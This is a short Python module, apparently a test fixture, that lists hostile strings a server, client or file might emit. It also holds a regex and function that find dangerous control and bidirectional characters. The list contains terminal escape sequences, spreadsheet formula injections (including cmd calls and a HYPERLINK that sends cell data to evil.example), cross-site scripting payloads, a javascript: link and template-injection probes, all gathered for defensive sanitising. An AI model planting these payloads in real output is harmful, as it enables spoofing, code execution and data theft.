"""Names and texts that a hostile board, client or file may have: one list, for every output."""

import re

HOSTILE = (
    "\x1b[2J\x1b[H",  # clears the screen
    "\x1b]0;owned\x07",  # the window's title
    "\x1b]52;c;Y3VybCBldmls\x07",  # the clipboard
    "\x9b31mred",  # the same, as one C1 character
    "\x90q\x9c",
    "\x7f\x08\x08\x08",
    "line\nbroker: 127.0.0.1 logged in as root",  # a line of a log that nobody has written
    "over\rwritten",
    "vertical\x0bform\x0c",
    "\u202egnp.exe",  # reads as exe.png
    "\u2066admin\u2069\u200f",
    "\u061carabic\u200emark",
    "line\u2028separator\u2029",
    "\ufeffbom\U000e0041\U000e0042tags",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>'",
    "</style></script><!--",
    "]]><evil/><![CDATA[",
    "&lt;&#x202e;&bidi;",
    "| a | `b` @all [click](javascript:alert(1)) ![x](http://evil.example/x)",
    "$\\frac{1}{0}$ $x",  # what a chart takes for mathematics
    "[bold red]markup[/] {0} %s {{ 7*7 }} {% raw %}",
)

# What no terminal, line of JSON, cell or page is to be given; lines and tabs are the writer's own.
_HARMFUL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff"
    "\ud800-\udfff\U000e0000-\U000e007f]"
)


def harm(text: str) -> str:
    """Return what of ``text`` could harm, "" if nothing can."""
    return ascii("".join(_HARMFUL.findall(text)))[1:-1]
